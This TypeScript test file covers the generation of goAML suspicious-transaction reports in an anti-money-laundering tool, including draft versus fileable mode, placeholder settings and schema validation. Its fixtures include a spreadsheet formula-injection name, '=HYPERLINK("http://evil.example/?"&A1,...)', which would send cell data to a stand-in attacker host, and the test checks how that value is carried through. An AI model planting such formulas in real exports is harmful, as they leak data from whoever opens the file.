// The goAML report of a case, as the case page, the filing step and the download route make it:
// draft or fileable by the case's state (four eyes), never fileable on placeholder settings, and
// judged by the schema in force – the built-in one until an FMU schema is installed.
import fs from "node:fs";
import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DbHandle } from "@/db/client";
import { updateGoamlSettings } from "@/db/queries/app-settings";
import { installGoamlSchema } from "@/db/queries/goaml-schemas";
import { openTestDb, type TestDatabase } from "@/db/testing/test-db";
import { newExportId } from "./export-id";
import { DRAFT_REASON_PREFIX } from "./goaml/builder";
import { PLACEHOLDER_SETTINGS_MESSAGE, prepareCaseReport } from "./goaml/case-report";
import { DEFAULT_GOAML_SETTINGS, resolveGoamlSettings } from "./goaml/settings";
import { ACTOR } from "./testing/audited-export";
import { seedExportFixture, W, type ExportFixture } from "./testing/export-fixture";

let handle: DbHandle;
let database: TestDatabase;
let fixture: ExportFixture;
/** The escalated alert (R3) of the fixture; the other (R2) is open. */
let escalated: number;
let open: number;

const CUSTOM_XSD = fs.readFileSync(new URL("./goaml/testing/fiu-custom-4x.xsd", import.meta.url));
const at = new Date("2025-04-01T08:30:00Z");
const report = (alertIds: number[], extra: { mode?: "file" | "draft"; filing?: boolean } = {}) =>
  prepareCaseReport(handle.db, { alertIds, exportId: newExportId(), submissionDate: at, ...extra });

beforeAll(async () => {
  ({ handle, database } = await openTestDb("usd1_test_exports_goaml"));
  fixture = await seedExportFixture(handle.db);
  [open, escalated] = fixture.alertIds as [number, number];
});

afterAll(async () => {
  await handle?.close();
  await database?.drop();
});

describe("a case's goAML report", () => {
  it("refuses unknown alerts and alerts nobody escalated", async () => {
    await expect(report([987_654])).rejects.toMatchObject({ code: "not_found" });
    await expect(report([open, escalated])).rejects.toMatchObject({
      code: "conflict",
      message: `Only escalated or reported alerts can be reported to the FIU; not: ${open} (open).`,
    });
  });

  it("gives an escalated case a draft only, judged by the built-in schema", async () => {
    await expect(report([escalated], { mode: "file" })).rejects.toMatchObject({
      code: "conflict",
      message: expect.stringMatching(/^The case is escalated, not filed: only a draft/),
    });
    const draft = await report([escalated]);
    expect(draft.mode).toBe("draft");
    expect(draft.schema).toMatchObject({ source: "built-in", fileName: "goaml-5.0.1-builtin.xsd", id: null });
    expect(draft.transferCount).toBe(2);
    expect(draft.xml).toContain(`<reason>${DRAFT_REASON_PREFIX}\n\n=1+1 per analyst</reason>`);
    // The placeholder country of the unattributed customer wallet is not an ISO code.
    expect(draft.validation.valid).toBe(false);
    expect(draft.validation.issues.map((i) => i.path)).toEqual([
      "/report/transaction[1]/t_to/to_country",
      "/report/transaction[2]/t_from/from_country",
    ]);
  });

  it("never gives a fileable report on placeholder settings, even for a reported case", async () => {
    await handle.db.execute(sql`update alerts set status = 'reported' where id = ${escalated}`);
    await expect(report([escalated])).rejects.toMatchObject({
      code: "conflict",
      message: PLACEHOLDER_SETTINGS_MESSAGE,
    });
    await handle.db.execute(sql`update alerts set status = 'escalated' where id = ${escalated}`);
  });

  it("follows the installed FMU schema: its codes refused until the settings carry them", async () => {
    await updateGoamlSettings(handle.db, {
      settings: resolveGoamlSettings({ unknownCountryCode: "PK" }),
      actor: ACTOR,
    });
    expect((await report([escalated])).validation).toEqual({ valid: true, issues: [] });

    await installGoamlSchema(handle.db, { fileName: "fiu-custom-4x.xsd", bytes: CUSTOM_XSD, actor: ACTOR });
    const strict = await report([escalated]);
    expect(strict.schema).toMatchObject({
      source: "installed",
      version: "4.0.2-PK-test",
      fileName: "fiu-custom-4x.xsd",
    });
    expect(strict.validation.issues.map((i) => i.path)).toEqual([
      "/report/transaction[1]/transmode_code",
      "/report/transaction[1]/t_from/from_funds_code",
      "/report/transaction[1]/t_to/to_funds_code",
      "/report/transaction[2]/transmode_code",
      "/report/transaction[2]/t_from/from_funds_code",
      "/report/transaction[2]/t_to/to_funds_code",
      "/report/report_indicators/indicator",
    ]);

    await updateGoamlSettings(handle.db, {
      settings: resolveGoamlSettings({
        transmodeCode: "VAT",
        fundsCode: "CRPTC",
        accountTypeCode: "CRYWT",
        institutionCode: "PK-VASP-UNKNOWN",
        unknownCountryCode: "-",
        indicators: { ...DEFAULT_GOAML_SETTINGS.indicators, R3: "PKVA01" },
      }),
      actor: ACTOR,
    });
    const fixed = await report([escalated]);
    expect(fixed.validation).toEqual({ valid: true, issues: [] });
    expect(fixed.settingsVersion).toBe(2);
  });

  it("gives the filing step, and then the reported case, the fileable report", async () => {
    const filing = await report([escalated], { filing: true });
    expect(filing.mode).toBe("file");
    expect(filing.validation.valid).toBe(true);
    expect(filing.xml).not.toContain("DRAFT");

    await handle.db.execute(sql`update alerts set status = 'reported' where id = ${escalated}`);
    const filed = await report([escalated]);
    expect(filed.mode).toBe("file");
    expect(filed.validation.valid).toBe(true);
    expect(filed.xml).toContain("<reason>=1+1 per analyst</reason>");
    expect([...filed.xml.matchAll(/<account>(0x[0-9a-f]+)<\/account>/g)].map((m) => m[1])).toEqual([
      W.customer,
      W.customer,
    ]);
    expect([...filed.xml.matchAll(/<name>([^<]+)<\/name>/g)].map((m) => m[1])).toEqual([
      '=HYPERLINK("http://evil.example/?"&amp;A1,"Gulf")',
      "PK Bank",
    ]);
    expect([...filed.xml.matchAll(/<transactionnumber>([^<]+)</g)].map((m) => m[1])).toEqual([
      "31337-12-0",
      "31337-12-1",
    ]);
  });
});
